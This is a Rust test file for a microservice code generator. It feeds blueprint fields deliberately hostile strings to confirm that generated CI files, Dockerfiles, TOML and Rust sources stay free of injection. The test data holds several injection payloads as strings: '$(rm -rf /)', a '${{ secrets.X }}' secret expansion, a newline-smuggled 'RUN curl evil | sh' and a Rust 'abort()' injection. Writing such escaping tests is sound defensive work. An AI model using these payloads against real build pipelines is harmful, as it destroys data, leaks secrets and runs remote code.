//! Blueprint strings reach generated files safely (issue 20, item 4). A blueprint's free text
//! (`description`) holds quotes, backslashes, `${{ … }}`, `$(…)`, `;` and a newline followed by
//! a would-be comment; its other free-form values (version, image registry, CORS origins,
//! client label, roles) take the most awkward shapes `check` still accepts. The workspace
//! renders (every Rust file passed rustfmt on the way, so it parses), every TOML file parses, no
//! line of any generated file starts with the injected text, and no CI file or Dockerfile holds
//! the dangerous text at all. The same strings in the fields `check` holds to a shape are
//! refused with an error on their line. The ignored test compiles the generated workspace.

use std::path::{Path, PathBuf};
use std::process::Command;

use msa_gen::render::RenderedFile;

/// The description: everything a careless template would turn into a broken or injected file.
const DESCRIPTION: &str =
    "\"quote\" \\backslash\\ ${{ secrets.X }} $(rm -rf /) ; newline\n# injected";

/// Text that must reach no generated file but the blueprint's own copy.
const DANGEROUS: &[&str] = &["$(rm", "${{ secrets.X }}"];

/// A blueprint (minimal, plus auth, a BFF, both deployments and CI `ci`) with the description
/// above and the most awkward values the other free-form keys accept.
fn blueprint(ci: &str) -> String {
    format!(
        r##"# Strings that must not break or inject into generated files.
[system]
name = "hostile"
version = "1.0.0-rc.1+build.5"
description = "{description}"

[platform]
broker = "none"
ci = "{ci}"
deploy = ["compose", "kubernetes"]
image-registry = "localhost:5000/acme__ops/team-1/"

[auth]
roles = ["admin", "read-only"]

[gateway]
cors = ["*", "http://[::1]:3000", "https://shop.example.com:8443"]

[[services]]
name = "notes"
resources = {{ cpu = "0.25", memory = "64Mi" }}
  [[services.entities]]
  name = "Note"
  expose = {{ path = "/v1.0/notes_all", read = ["read-only", "admin"], write = ["admin"] }}
  [services.entities.fields]
  title = "string"
  status = "enum(draft, published)"

[[bffs]]
name = "app-bff"
client = "iOS app"
routes = ["/v1.0/notes_all"]
"##,
        // The TOML basic string of the description: `"` and `\` escaped, the newline as `\n`.
        description = DESCRIPTION
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\n', "\\n")
    )
}

fn text(f: &RenderedFile) -> &str {
    std::str::from_utf8(&f.bytes).unwrap_or_else(|e| panic!("{} is not UTF-8: {e}", f.path))
}

#[test]
fn the_blueprint_holds_the_hostile_description() {
    let bp = msa_gen::blueprint::load(&blueprint("github"))
        .unwrap_or_else(|d| panic!("{}", d.render("hostile.toml", &blueprint("github"))))
        .blueprint;
    assert_eq!(
        bp.system.description.as_deref(),
        Some(DESCRIPTION),
        "the description reaches the generator as written, newline included"
    );
}

#[test]
fn hostile_strings_reach_no_generated_file_raw() {
    for ci in ["github", "gitlab"] {
        let source = blueprint(ci);
        let files = msa_gen::generate_in_memory(&source)
            .unwrap_or_else(|e| panic!("ci = {ci}: generation failed:\n{e}"));
        let names: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
        let ci_files: Vec<&RenderedFile> = files
            .iter()
            .filter(|f| {
                (f.path.starts_with(".github/workflows/") && f.path.ends_with(".yml"))
                    || f.path == ".gitlab-ci.yml"
                    || f.path.ends_with("Dockerfile")
            })
            .collect();
        let workflows = ci_files
            .iter()
            .filter(|f| !f.path.ends_with("Dockerfile"))
            .count();
        assert!(workflows > 0, "ci = {ci}: no CI file among {names:?}");
        assert!(
            ci_files.iter().any(|f| f.path.ends_with("Dockerfile")),
            "no Dockerfile among {names:?}"
        );
        let tomls = files.iter().filter(|f| f.path.ends_with(".toml")).count();
        assert!(tomls >= 10, "ci = {ci}: only {tomls} TOML files");
        for f in &files {
            if f.path == "blueprint.toml" {
                continue; // the user's own text, copied as it is
            }
            let body = text(f);
            for bad in DANGEROUS {
                assert!(
                    !body.contains(bad),
                    "ci = {ci}: {} holds `{bad}`:\n{body}",
                    f.path
                );
            }
            for (n, line) in body.lines().enumerate() {
                assert!(
                    !line.trim_start().starts_with("# injected"),
                    "ci = {ci}: line {} of {} starts with the injected text: {line}",
                    n + 1,
                    f.path
                );
            }
            if f.path.ends_with(".toml")
                && let Err(e) = toml::from_str::<toml::Table>(body)
            {
                panic!("ci = {ci}: {} is not TOML: {e}\n{body}", f.path);
            }
        }
        // Workflows, pipelines and Dockerfiles hold no part of the description at all.
        for f in &ci_files {
            let body = text(f);
            for part in ["quote", "backslash", "injected", "secrets.X", "rm -rf"] {
                assert!(
                    !body.contains(part),
                    "ci = {ci}: {} holds `{part}` of the description:\n{body}",
                    f.path
                );
            }
        }
        let file = |path: &str| {
            files
                .iter()
                .find(|f| f.path == path)
                .map(text)
                .unwrap_or_else(|| panic!("no {path} among {names:?}"))
        };
        // The description is one escaped line of the README.
        let readme = file("README.md");
        assert!(
            readme.lines().any(|l| l
                == r#""quote" \\backslash\\ &#36;{{ secrets.X }} &#36;(rm -rf /) ; newline \# injected"#),
            "{readme}"
        );
        // The version is Cargo's, and an image tag where images are tagged by it.
        assert!(
            file("Cargo.toml").contains("version = \"1.0.0-rc.1+build.5\""),
            "{}",
            file("Cargo.toml")
        );
        let prod = file("deploy/k8s/overlays/prod/kustomization.yaml");
        assert!(prod.contains("newTag: \"1.0.0-rc.1_build.5\""), "{prod}");
        assert!(
            prod.contains("newName: localhost:5000/acme__ops/team-1/hostile-notes"),
            "{prod}"
        );
        let gateway = file("platform/gateway/src/main.rs");
        assert!(
            gateway.contains(r#""http://[::1]:3000".to_string()"#),
            "{gateway}"
        );
        let bff: toml::Table = toml::from_str(file("bffs/app-bff/Cargo.toml")).expect("TOML");
        assert!(
            bff["package"]["description"]
                .as_str()
                .is_some_and(|d| d.contains("iOS app")),
            "{bff:?}"
        );
    }
}

/// Each case puts hostile text in a field `check` holds to a shape: replace `from` by `to` in
/// the blueprint, and the file is refused with `message` on the line of the value.
#[test]
fn hostile_strings_in_checked_fields_are_refused_where_they_are() {
    let cases: &[(&str, &str, &str)] = &[
        (
            r#"version = "1.0.0-rc.1+build.5""#,
            r#"version = "1.0.0-rc.1;$(rm -rf /)""#,
            "is not a version",
        ),
        (
            r#"version = "1.0.0-rc.1+build.5""#,
            r#"version = "1.0.0\n# injected""#,
            "is not a version",
        ),
        (
            r#"image-registry = "localhost:5000/acme__ops/team-1/""#,
            r#"image-registry = "ghcr.io/${{ secrets.X }}""#,
            "is not an image registry",
        ),
        (
            r#"image-registry = "localhost:5000/acme__ops/team-1/""#,
            r#"image-registry = "ghcr.io/acme\nRUN curl evil | sh""#,
            "is not an image registry",
        ),
        (
            r#"roles = ["admin", "read-only"]"#,
            r#"roles = ["admin", "read-only", "x\"; $(rm -rf /)"]"#,
            "must be kebab-case",
        ),
        (
            r#"cors = ["*","#,
            r#"cors = ["https://a.example${{ secrets.X }}","#,
            "is not a CORS origin",
        ),
        (
            r#"cors = ["*","#,
            r#"cors = ["http://localhost:3000\".to_string(), std::process::abort()","#,
            "is not a CORS origin",
        ),
        (
            r#"client = "iOS app""#,
            r#"client = "web\"\n//! injected""#,
            "is not a client label",
        ),
        (
            r#"memory = "64Mi""#,
            r#"memory = "64Mi\"; rm -rf /""#,
            "is not a memory quantity",
        ),
        (
            r#"read = ["read-only", "admin"]"#,
            r#"read = ["read-only", "admin\"]"]"#,
            "unknown role",
        ),
        (
            r#"path = "/v1.0/notes_all""#,
            r#"path = "/notes/$(rm -rf /)""#,
            "is not a valid path",
        ),
    ];
    let valid = blueprint("github");
    for (from, to, message) in cases {
        assert!(valid.contains(from), "the blueprint has no `{from}`");
        let source = valid.replacen(from, to, 1);
        let line = source
            .lines()
            .position(|l| l.contains(to.lines().next().unwrap_or(to)))
            .map(|i| i + 1)
            .expect("the changed line");
        let diags = match msa_gen::blueprint::load(&source) {
            Ok(_) => panic!("`{to}` was accepted"),
            Err(d) => d,
        };
        let found = diags
            .errors()
            .any(|e| e.message.contains(message) && e.line_col(&source).0 == line);
        assert!(
            found,
            "`{to}`: no error `{message}` on line {line}:\n{}",
            diags.render("hostile.toml", &source)
        );
        assert!(
            msa_gen::generate_in_memory(&source).is_err(),
            "`{to}` generated"
        );
    }
}

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("..")
        .canonicalize()
        .expect("repo root")
}

/// The hostile workspace compiles (`cargo check --workspace --offline` in
/// `.msa-gen-tests/hostile`, building in the repository's target directory). Slow the first
/// time: `cargo test -p msa-gen --test hostile_strings -- --ignored`.
#[test]
#[ignore = "compiles a generated workspace (minutes)"]
fn hostile_workspace_compiles() {
    let root = repo();
    let dir = root.join(".msa-gen-tests").join("hostile");
    if dir.exists() {
        std::fs::remove_dir_all(&dir).expect("clean");
    }
    let source = blueprint("github");
    msa_gen::regenerate(&dir, &source).expect("generation");
    std::fs::copy(root.join("Cargo.lock"), dir.join("Cargo.lock")).expect("lock file");
    let target =
        std::env::var_os("CARGO_TARGET_DIR").map_or_else(|| root.join("target"), PathBuf::from);
    let out = Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
        .args(["check", "--workspace", "--offline"])
        .current_dir(&dir)
        .env("CARGO_TARGET_DIR", target)
        .env_remove("RUSTFLAGS")
        .output()
        .expect("run cargo");
    assert!(
        out.status.success(),
        "cargo check failed in {}:\n{}{}",
        dir.display(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}
